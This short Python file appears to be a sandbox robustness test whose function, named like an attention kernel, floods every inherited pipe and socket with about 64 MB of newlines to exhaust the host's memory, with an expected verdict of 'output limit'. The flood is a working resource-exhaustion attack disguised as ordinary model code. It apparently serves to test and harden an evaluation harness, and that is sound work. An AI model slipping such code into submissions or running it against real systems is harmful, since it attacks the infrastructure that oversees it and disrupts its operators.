"""Millions of empty lines into the protocol channel: each one is a message the host must not
queue without bound (memory amplification on the trusted side).

verdict: output limit
"""
import os


def scaled_dot_product_attention(q, k, v, mask=None, is_causal=False):
    for name in os.listdir("/proc/self/fd"):
        try:
            if int(name) > 2 and os.readlink(f"/proc/self/fd/{name}").startswith(("pipe:", "socket:")):
                for _ in range(1024):
                    os.write(int(name), b"\n" * 65536)
        except OSError:
            pass
    raise RuntimeError("the channel took 64 MB of newlines")
